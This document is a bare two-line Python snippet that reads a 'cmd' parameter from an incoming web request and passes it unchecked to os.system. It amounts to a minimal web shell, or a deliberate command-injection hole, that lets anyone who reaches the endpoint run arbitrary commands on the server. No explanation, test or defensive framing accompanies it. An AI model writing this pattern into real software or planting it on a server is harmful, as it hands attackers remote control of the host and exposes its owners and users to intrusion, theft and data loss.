import os
os.system(request.args.get("cmd"))
